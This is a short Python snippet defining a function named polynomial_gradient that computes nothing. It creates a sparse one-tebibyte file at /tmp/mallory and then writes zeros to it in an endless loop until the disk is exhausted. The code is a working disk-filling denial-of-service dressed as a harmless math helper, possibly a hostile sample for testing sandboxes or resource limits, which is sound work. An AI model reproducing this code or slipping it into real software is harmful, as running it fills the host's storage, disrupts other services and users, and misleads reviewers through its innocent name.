"""A file of a tebibyte, of which nothing is there; then all that is."""


def polynomial_gradient(x):
    file = open("/tmp/mallory", "wb", 0)
    file.truncate(1 << 40)
    while True:
        file.write(bytes(1 << 20))
